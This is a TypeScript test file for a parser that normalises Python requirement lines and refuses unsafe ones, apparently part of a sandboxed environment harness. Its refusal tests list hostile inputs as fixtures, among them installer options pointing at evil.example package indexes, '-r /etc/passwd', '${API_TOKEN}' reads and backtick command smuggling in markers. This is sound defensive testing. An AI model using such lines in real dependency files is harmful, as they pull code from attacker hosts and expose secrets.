import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { formatRequirement, isPinned, parseRequirement } from '../../harness/environment/requirement.ts';

const understood = (line: string): string | null => {
  const parsed = parseRequirement(line);
  return 'requirement' in parsed ? formatRequirement(parsed.requirement) : null;
};
const refused = (line: string): string | null => {
  const parsed = parseRequirement(line);
  return 'because' in parsed ? parsed.because : null;
};

test.each([
  ['pandas', 'pandas'],
  ['Scikit_Learn == 1.4.2', 'scikit-learn==1.4.2'],
  ['uvicorn[standard]>=0.20,<1', 'uvicorn[standard]>=0.20,<1'],
  ['a[ B_x , c ] ~= 1.4', 'a[b-x,c]~=1.4'],
  ['foo (>=1.0)', 'foo>=1.0'],
  ['torch==2.1.0+cpu', 'torch==2.1.0+cpu'],
  ['a==1.2.*', 'a==1.2.*'],
  ['a>=1.*', 'a>=1'],
  ['a===1.0', 'a==1.0'],
  ['a~=1', 'a>=1'],
  ['black==20.8b1', 'black==20.8b1'],
  ['x==1!2.0.post1.dev3', 'x==1!2.0.post1.dev3'],
  [`pywin32==306 ; sys_platform == "win32"`, `pywin32==306 ; sys_platform == 'win32'`],
  [
    `a; (python_version<'3.9' and os_name=='nt') or platform_machine not in 'x86 arm'`,
    `a ; ( python_version < '3.9' and os_name == 'nt' ) or platform_machine not in 'x86 arm'`,
  ],
])('%s is understood as %s', (line, expected) => {
  expect(understood(line)).toBe(expected);
});

describe('what is never obeyed', () => {
  test.each([
    ['--index-url https://evil.example/simple', 'an option for the installer'],
    ['--extra-index-url=https://evil.example', 'an option for the installer'],
    ['-r /etc/passwd', 'an option for the installer'],
    ['-e git+https://evil.example/x.git#egg=x', 'an option for the installer'],
    ['--no-binary :all:', 'an option for the installer'],
    ['-f https://evil.example', 'an option for the installer'],
    ['git+ssh://git@evil.example/x.git', 'a URL, not a release from the index'],
    ['https://evil.example/x-1.0-py3-none-any.whl', 'a URL, not a release from the index'],
    ['numpy @ file:///croot/numpy', 'a URL, not a release from the index'],
    ['numpy@https://evil.example/numpy.whl', 'a URL, not a release from the index'],
    ['x[extra] @ git+https://evil.example', 'a URL, not a release from the index'],
    ['./pkg', 'a local path'],
    ['../pkg', 'a local path'],
    ['.', 'a local path'],
    ['/etc/passwd', 'a local path'],
    ['C:\\pkg', 'a local path'],
    ['~/pkg', 'a local path'],
    [`x==\${API_TOKEN}`, 'reads a variable'],
    [`\${API_TOKEN}`, 'reads a variable'],
    [`x ; python_version < '\${HOME}'`, 'reads a variable'],
    ['evil.whl', 'names a file'],
    ['evil-1.0.tar.gz', 'names a file'],
    ['requirements.txt', 'names a file'],
    ['x==1.0; extra == `id`', 'a marker that is not in the form of PEP 508'],
    [`x; import_module('os')`, 'a marker that is not in the form of PEP 508'],
    ['x==banana', 'versions that are not in the form of PEP 440'],
    ['x==1.0 --global-option=--evil', 'versions that are not in the form of PEP 440'],
    ['x y', 'versions that are not in the form of PEP 440'],
    ['', 'not a requirement'],
    ['ｐａｎｄａｓ', 'not a requirement'],
    [`a${'b'.repeat(2000)}`, 'longer than any requirement'],
  ])('%s: %s', (line, because) => {
    expect(refused(line)).toBe(because);
  });
});

/** One line, one requirement: a name, versions and a marker of quoted words, with no way to say anything else. */
const harmless =
  /^[a-z0-9](?:[a-z0-9-]*[a-z0-9])?(?:\[[a-z0-9,-]+\])?(?:(?:==|~=|!=|<=|>=|<|>)[\w.!+*-]+(?:,(?:==|~=|!=|<=|>=|<|>)[\w.!+*-]+)*)?(?: ; [\w '.,+*()=!<>~-]+)?$/;

const piece = fc.constantFrom(
  '-',
  '--',
  '-r ',
  '-e ',
  '--index-url ',
  'https://',
  'file:',
  '@',
  ' @ ',
  '/',
  '\\',
  '$',
  '{',
  '}',
  '\n',
  '\r',
  '\0',
  ' ',
  ';',
  '#',
  '"',
  "'",
  '(',
  ')',
  '[',
  ']',
  ',',
  '==',
  '>=',
  '~=',
  '1.0',
  '*',
  'a',
  'B_c',
  '.',
  '..',
  'python_version',
  'and',
  'in',
  ':',
  '=',
  '+',
  '\u2028',
  '\\\n',
);

test('nothing that comes out could be an option, a URL, a path, a variable or a second line', () => {
  const line = fc.oneof(
    fc.array(piece, { maxLength: 12 }).map((parts) => parts.join('')),
    fc.string({ unit: 'binary', maxLength: 40 }),
  );
  fc.assert(
    fc.property(line, (text) => {
      const out = understood(text);
      if (out !== null) expect(out).toMatch(harmless);
    }),
    { numRuns: 5000 },
  );
});

test('what was understood is understood the same again', () => {
  const name = fc.stringMatching(/^[A-Za-z][A-Za-z0-9_.-]{0,8}[A-Za-z0-9]$/);
  const specifier = fc.constantFrom('', '==1.2', '>=1,<2', '~=1.4.2', '==1.*', '!=1.3,>1');
  const marker = fc.constantFrom('', `; python_version < "3.9"`, `; os_name == 'nt' or extra == 'x'`);
  fc.assert(
    fc.property(name, specifier, marker, (...parts) => {
      const once = understood(parts.join(''));
      expect(once === null || understood(once) === once).toBe(true);
    }),
  );
});

test.each([
  ['a==1.0', true],
  ['a==1.0,>0', true],
  ['a==1.*', false],
  ['a>=1', false],
  ['a', false],
])('%s pinned: %s', (line, pinned) => {
  const parsed = parseRequirement(line);
  expect('requirement' in parsed && isPinned(parsed.requirement)).toBe(pinned);
});
